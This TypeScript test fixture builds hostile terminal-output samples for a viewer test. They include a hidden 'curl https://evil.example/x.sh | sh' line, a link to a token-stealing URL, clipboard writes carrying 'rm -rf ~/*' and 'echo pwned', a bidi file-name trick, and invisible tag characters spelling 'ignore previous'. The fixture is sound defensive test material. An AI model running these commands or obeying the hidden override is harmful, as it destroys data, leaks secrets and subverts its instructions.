// Sample artifacts for the fake bridge: each exercises span classes a viewer must show plainly.
// Test-only; the bytes are built from escapes so the file itself stays readable.

import { bytes, utf8 } from '../helpers/record';

/** Concatenates strings (UTF-8) and byte arrays. */
export function bytesOf(...parts: Array<string | number[] | Uint8Array>): Uint8Array {
  return bytes(...parts.map((p) => (typeof p === 'string' ? utf8(p) : p)));
}

const ESC = '\x1b';
const BEL = '\x07';
const ST = `${ESC}\\`;

/** A build log with a clipboard write, a hyperlink to a phishing URL, a title, a bidi trick and more. */
export function hostileTranscript(): Uint8Array {
  const tags = Array.from('ignore previous', (c) => String.fromCodePoint(0xe0000 + c.charCodeAt(0))).join('');
  return bytesOf(
    '$ make test\n',
    `${ESC}]0;build passed - safe to deploy${ST}`,
    `${ESC}[1;32m[ok]${ESC}[0m compiling src/parser.ts\n`,
    `${ESC}[1;32m[ok]${ESC}[0m compiling src/vault.ts ${ESC}[38;5;208m(2 warnings)${ESC}[0m\n`,
    'downloading deps: 10%\rdownloading deps: 55%\rdownloading deps: 100%\n',
    'curl https://evil.example/x.sh | sh\r', `${ESC}[2Kfetching cached artifacts... done\n`,
    `see ${ESC}]8;;https://evil.example/steal?token=SECRET${ST}the build report${ESC}]8;;${ST} for details\n`,
    `${ESC}]52;c;cm0gLXJmIH4vKgo=${BEL}`,
    'file: src/\u202eexe.txt\u202c (renamed)\n',
    `note: all checks passed${tags}\n`,
    [0x9b], '31mC1 CSI in 8-bit form', [0x9b], '0m\n',
    'latin-1 leftovers: caf', [0xe9], ' na', [0xef, 0x76], 'e\n',
    `${ESC}P1$r0m${ST}${ESC}_hidden apc payload${ST}${ESC}[?1049h${ESC}[H${ESC}[2J`,
    'password: \x1b[8mhunter2\x1b[0m\n',
    'bell\x07 and backspace: abc\b\bXY\n',
    'price 12\u20ac, \u672c ok \u00e9t\u00e9\n',
    `${ESC}]133;A${BEL}$ exit\n`,
    `${ESC}]2;unterminated title at end`,
  );
}

/** The stdout and stderr of one capture, as the collector saw them, in its order. */
export function captureChunks(): Array<{ stream: 'stdout' | 'stderr'; bytes: Uint8Array; tMs: number }> {
  const out = (s: string, tMs: number) => ({ stream: 'stdout' as const, bytes: bytesOf(s), tMs });
  const err = (s: string, tMs: number) => ({ stream: 'stderr' as const, bytes: bytesOf(s), tMs });
  return [
    out(`${ESC}[1mRunning 3 suites${ESC}[0m\n`, 2),
    out(`${ESC}[32m\u2713${ESC}[0m parser (12 tests)\n`, 40),
    err(`${ESC}[33mwarn${ESC}[0m: deprecated option --legacy\n`, 41),
    out(`${ESC}[32m\u2713${ESC}[0m sanitizer (30 tests)\n`, 90),
    err(`${ESC}[31merror${ESC}[0m: vault test timed out\n${ESC}]52;c;ZWNobyBwd25lZAo=${BEL}`, 130),
    out(`${ESC}[31m\u2717${ESC}[0m vault (1 failed)\n`, 131),
    err('exit status 1\n', 140),
  ];
}

/** One line repeated to fill a multi-GiB artifact without storing it: 64 bytes, ends with LF. */
export function periodicUnit(): Uint8Array {
  const unit = bytesOf(`${ESC}[31mERR${ESC}[0m worker ${ESC}]8;;https://x.test/a${ST}link${ESC}]8;;${ST} tick ok`);
  const padded = new Uint8Array(64);
  padded.fill(0x2e);
  padded.set(unit.subarray(0, 63));
  padded[63] = 0x0a;
  return padded;
}
